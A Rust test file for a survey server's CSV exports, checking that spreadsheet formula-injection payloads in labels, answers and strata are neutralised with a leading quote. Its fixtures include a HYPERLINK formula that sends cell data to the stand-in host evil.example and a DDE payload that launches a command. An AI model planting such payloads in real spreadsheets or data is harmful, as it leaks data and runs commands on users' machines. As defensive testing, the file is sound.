//! CSV formula injection: a survey label, a free-text answer or a stratum
//! that a spreadsheet would run as a formula arrives in every CSV download
//! (aggregates, microdata, codebook) with a leading `'`, while the numbers
//! the server writes stay numbers.

mod common;

use common::{Server, interview, send, spawn};
use reqwest::StatusCode;
use salama_server::auth::Role;
use serde_json::{Value, json};

/// What an attacker would put in a label or an answer.
const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
const CALC: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// The version after the shipped one.
const NEXT: u32 = salama_shared::default_survey::COMMUNITY_SAFETY_VERSION + 1;

/// The default questionnaire's next version, hostile where an admin's import
/// could be: the sex question's label, the label of `female`, and a
/// free-text question kept in microdata.
fn hostile_version() -> Value {
    let mut survey =
        serde_json::to_value(salama_shared::community_safety()).expect("survey serialises");
    survey["version"] = json!(NEXT);
    let respondent = &mut survey["sections"][0]["questions"];
    assert_eq!(respondent[0]["id"], "resp_sex");
    respondent[0]["label"]["en"] = json!(LINK);
    let sex = survey["choice_lists"]
        .as_array_mut()
        .expect("choice lists")
        .iter_mut()
        .find(|list| list["id"] == "sex")
        .expect("a sex list");
    let female = sex["choices"]
        .as_array_mut()
        .expect("choices")
        .iter_mut()
        .find(|choice| choice["value"] == "female")
        .expect("female");
    female["label"]["en"] = json!(CALC);
    survey["sections"][0]["questions"]
        .as_array_mut()
        .expect("questions")
        .push(json!({
            "id": "occupation",
            "label": {"en": "Occupation", "fr": "Profession", "ar": "المهنة"},
            "kind": {"type": "text", "max_length": 200},
            "required": false,
            "microdata_safe": true
        }));
    survey
}

/// A server whose community-safety survey is [`hostile_version`], with an
/// enumerator and an analyst.
async fn hostile_server() -> (Server, String, String) {
    let server = spawn().await;
    let (_, admin) = server.user("admin-1", Role::Admin).await;
    let (_, enumerator) = server.user("enum-1", Role::Enumerator).await;
    let (_, analyst) = server.user("analyst-1", Role::Analyst).await;
    let (status, body) = send(
        server
            .client
            .post(server.url("/api/surveys"))
            .bearer_auth(&admin)
            .json(&hostile_version()),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body:#}");
    (server, enumerator, analyst)
}

/// An interview on that version in `cluster`, by a respondent of `sex`.
async fn post_interview(
    server: &Server,
    enumerator: &str,
    cluster: &str,
    sex: &str,
    occupation: &str,
) {
    let mut submission = interview();
    submission["survey_version"] = json!(NEXT);
    // Credited to the account sending it.
    submission["enumerator_id"] = Value::Null;
    submission["cluster_id"] = json!(cluster);
    submission["answers"]["resp_sex"] = json!(sex);
    submission["answers"]["occupation"] = json!(occupation);
    let (status, body) = send(
        server
            .client
            .post(server.url("/api/surveys/community-safety/submissions"))
            .bearer_auth(enumerator)
            .json(&submission),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body:#}");
}

fn column(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

#[tokio::test]
async fn a_hostile_group_label_is_quoted_in_the_aggregate_csv_and_estimates_stay_numbers() {
    let (server, enumerator, analyst) = hostile_server().await;
    for i in 0..30 {
        let sex = if i % 2 == 0 { "female" } else { "male" };
        post_interview(
            &server,
            &enumerator,
            &format!("ea-{}", i % 3),
            sex,
            "farmer",
        )
        .await;
    }
    let (header, rows) = server.download_csv(&analyst,
        "/api/surveys/community-safety/aggregates?indicator=sdg_16_1_4&by=sex&channel=enumerator&format=csv",
    )
    .await;
    let (sex, label) = (column(&header, "sex"), column(&header, "sex_label"));
    let female = rows
        .iter()
        .find(|row| &row[sex] == "female")
        .expect("a female row");
    assert_eq!(&female[label], format!("'{CALC}"));
    let male = rows
        .iter()
        .find(|row| &row[sex] == "male")
        .expect("a male row");
    assert_eq!(&male[label], "Male", "harmless labels are unchanged");
    let total = rows
        .iter()
        .find(|row| &row[sex] == "total")
        .expect("a total row");
    assert_eq!(&total[column(&header, "n")], "30");
    for name in ["estimate", "ci_lower", "ci_upper"] {
        let value = &total[column(&header, name)];
        assert!(
            value.parse::<f64>().is_ok_and(f64::is_finite),
            "{name} is a plain number: {value:?}"
        );
    }
}

#[tokio::test]
async fn hostile_answers_and_strata_are_quoted_in_microdata_and_weights_stay_numbers() {
    let (server, enumerator, analyst) = hostile_server().await;
    post_interview(&server, &enumerator, "ea-0", "female", LINK).await;
    post_interview(&server, &enumerator, "ea-1", "male", "-1+2").await;
    post_interview(&server, &enumerator, "ea-2", "male", "teacher").await;
    // Fewer than k respondents would all be left out.
    post_interview(&server, &enumerator, "ea-2", "male", "teacher").await;
    post_interview(&server, &enumerator, "ea-2", "male", "teacher").await;
    // Strata are free codes in a design file: `-1-1` is a formula to a
    // spreadsheet, `-9` only the number it looks like; neither reaches
    // the file, where strata are opaque numbers.
    let (status, body) = send(
        server
            .client
            .post(server.url("/api/surveys/community-safety/weights"))
            .bearer_auth(&analyst)
            .header("content-type", "text/csv")
            .body("cluster_id,stratum,weight\nea-0,-1-1,2.5\nea-1,-9,3\nea-2,s1,4\n"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body:#}");
    let (header, rows) = server
        .download_csv(&analyst, "/api/surveys/community-safety/microdata.csv")
        .await;
    assert_eq!(rows.len(), 5);
    let at = |name: &str| column(&header, name);
    let mut seen: Vec<(&str, &str)> = rows
        .iter()
        .map(|row| (&row[at("weight")], &row[at("occupation")]))
        .collect();
    seen.sort_unstable();
    let quoted_link = format!("'{LINK}");
    assert_eq!(
        seen,
        [
            ("2.5", quoted_link.as_str()),
            ("3", "'-1+2"),
            ("4", "teacher"),
            ("4", "teacher"),
            ("4", "teacher"),
        ]
    );
    for row in &rows {
        assert!(
            row[at("respondent_no")].parse::<u64>().is_ok()
                && row[at("psu")].parse::<u64>().is_ok(),
            "{row:?}"
        );
        let stratum = &row[at("stratum")];
        assert!(stratum.parse::<u64>().is_ok() || stratum == "*", "{row:?}");
    }
}

#[tokio::test]
async fn a_hostile_question_label_is_quoted_in_the_codebook() {
    let (server, _, analyst) = hostile_server().await;
    let (header, rows) = server
        .download_csv(&analyst, "/api/surveys/community-safety/codebook.csv")
        .await;
    assert_eq!(
        header,
        [
            "column",
            "question",
            "item",
            "label",
            "type",
            "values",
            "k",
            "released",
            "suppressed"
        ]
    );
    let described = |name: &str| {
        rows.iter()
            .find(|row| &row[0] == name)
            .unwrap_or_else(|| panic!("{name} described"))
    };
    let sex = described("resp_sex");
    assert_eq!(&sex[3], format!("'{LINK}"));
    assert!(
        sex[5].starts_with(&format!("female={CALC}")),
        "a cell starting with a code is left as it is: {:?}",
        &sex[5]
    );
    let occupation = described("occupation");
    assert_eq!((&occupation[3], &occupation[4]), ("Occupation", "text"));
}
